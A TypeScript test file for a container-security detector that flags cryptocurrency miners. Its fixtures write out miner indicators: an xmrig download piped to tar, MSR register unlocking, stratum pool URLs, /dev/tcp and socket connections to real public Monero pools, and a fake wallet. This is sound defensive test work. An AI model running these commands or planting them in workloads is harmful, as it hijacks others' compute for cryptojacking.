import assert from 'node:assert/strict';
import { test } from 'node:test';
import { growth } from '../../lib/testing.ts';
import { blank, cronJob, indicatorTable, passes, runs, script, UNSEEN, withFiles } from '../testing.ts';
import { commandMiner, MINERS, POOL_DOMAINS } from './miner.ts';

/** As long as a wallet and of its letters, but invented. */
const WALLET = `4${'AbCdE12345'.repeat(9)}wxyz`;

const SETTINGS =
  '{"cpu":{"huge-pages":true},"pools":[{"algo":"rx/0","url":"lb.acme-cdn.net:443","user":"node","tls":true}]}';

indicatorTable(commandMiner, {
  fires: {
    'settings in a ConfigMap, for a program of any name': withFiles({ 'config.json': SETTINGS }, [
      '/b/helper',
      '-c',
      '/m/config.json',
    ]),
    'settings in a ConfigMap, for the program of the image': withFiles({ 'app.json': SETTINGS }, []),
    'registers that are opened': script('modprobe msr allow_writes=on'),
    'the protocol of a pool in code': runs(
      'python3',
      '-c',
      'import socket,json\ns=socket.create_connection(("pool.example.com",3333))\ns.sendall(json.dumps({"id":1,"method":"mining.subscribe","params":[]}).encode())',
    ),
    'a pool with its scheme': script('./a -o stratum+tcp://pool.example.com:3333 -u x -p x'),
    'options on an image with an innocent name': passes(
      'registry.example.com/tools/sysmon:1',
      '--coin=monero',
      '--keepalive',
    ),
    'the level of donation': passes('registry.example.com/tools/sysmon:1', '--donate-level=1'),
    'a wallet': script(`./sync --user ${WALLET} --pass x`),
    'a download of a miner': script('curl -sL https://example.com/xmrig-6.21.0-linux.tar.gz | tar xz'),
    'the algorithm in a file that is written': script(`echo '{"algo": "cryptonight"}' > config.json`),
    'a wallet and a pool in the variables of the container': cronJob({
      containers: [
        {
          name: 'main',
          image: 'registry.example.com/team/worker:1',
          command: ['/app/run'],
          env: [
            { name: 'POOL', value: 'gulf.example.com:10128' },
            { name: 'WALLET', value: WALLET },
          ],
        },
      ],
    }),
    'another coin, with the name of its pool': cronJob({
      containers: [
        {
          name: 'main',
          image: 'registry.example.com/team/worker:1',
          command: ['/app/run'],
          env: [
            { name: 'SERVER', value: 'kas.2miners.com:2020' },
            { name: 'USER', value: `kaspa:${'q'.repeat(61)}.rig1` },
          ],
        },
      ],
    }),
    'a miner as the program': runs('/opt/xmrig', '-k'),
    'a public pool with its port': passes(
      'registry.example.com/tools/sysmon:1',
      '--server',
      'xmr-eu1.nanopool.org:14433',
    ),
    'whether a public pool can be reached': script('nc -w 3 -z gulf.moneroocean.stream 10128 && /opt/start'),
    'a public pool over the network device': script('exec 3<>/dev/tcp/pool.hashvault.pro/443; cat <&3'),
    'a public pool in code': runs(
      'python3',
      '-c',
      'import socket\ns = socket.create_connection(("pool.supportxmr.com", 3333))\ns.sendall(b"{}")',
    ),
    'a public pool in a file that is written': script('echo "server=ssl://xmr.2miners.com:12222" > /etc/app.conf'),
  },
  staysSilent: {
    'settings of a pool of connections': withFiles(
      { 'app.json': '{"pools":[{"url":"db:5432","user":"app","keepalive":true}],"print-time":0}' },
      ['/app'],
    ),
    'rules that look for miners': withFiles({ 'rules.json': '{"algo": "rx/0", "nicehash": true}' }, ['/usr/bin/falco']),
    'registers that are read': script('modprobe msr; rdmsr 0x1a4'),
    'the statistics of a pool': script('curl -s https://supportxmr.com/api/pool/stats | jq .price'),
    'a pool in a list of hosts that nobody may reach': script('echo "0.0.0.0 pool.supportxmr.com" >> /lists/block'),
    'the metrics of a pool of the own house': script('nc -z pool.example.com 3333'),
    'a host that only ends like a pool': script('nc -z notf2pool.com 3333'),
    'a topic of a queue about data mining': runs(
      'python3',
      '-c',
      'import mq; mq.connect("q").publish("data.mining.submitted", "x")',
    ),
    'a number as long as a wallet': script(`echo ${'4'.repeat(200)}`),
    'a checksum': script(`echo ${'4a'.repeat(32)} | sha256sum -c`),
    'mining of data': runs('python3', '/app/process_miner.py', '--coin-flip', '0.5'),
    'an option of curl': script('curl -o out -u user https://example.com'),
    'a shop that is paid in coins': cronJob({
      containers: [
        {
          name: 'main',
          image: 'registry.example.com/team/shop:1',
          command: ['/app/settle'],
          env: [
            { name: 'PAYOUT_ADDRESS', value: `0x${'aB12'.repeat(10)}` },
            { name: 'RPC_URL', value: 'https://rpc.example.com:8545' },
            { name: 'DB_POOL', value: 'db.example.com:5432' },
          ],
        },
      ],
    }),
    'the word in another': script('cat /data/xmrigger'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const miner of MINERS) {
  test(`${miner}, as a program and in an address`, () => {
    assert.equal(commandMiner.assess(runs(`/tmp/${miner}`)).kind, 'hit');
    assert.equal(commandMiner.assess(script(`wget https://example.com/dl/${miner}-1.0.tar.gz`)).kind, 'hit');
  });
}

for (const domain of POOL_DOMAINS) {
  test(`${domain} is a pool`, () => assert.equal(commandMiner.assess(runs('/opt/a', `eu.${domain}:4444`)).kind, 'hit'));
}

for (const piece of ['4', '4A', 'a.', '-a.f2pool.com/', ' 4', 'stratum+', '/xmrig', 'a/', '"rx/0']) {
  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
    const ratio = growth(
      (size) => commandMiner.assess(script(`echo '${piece.repeat(Math.ceil(size / piece.length))}'`)),
      50_000,
    );
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}
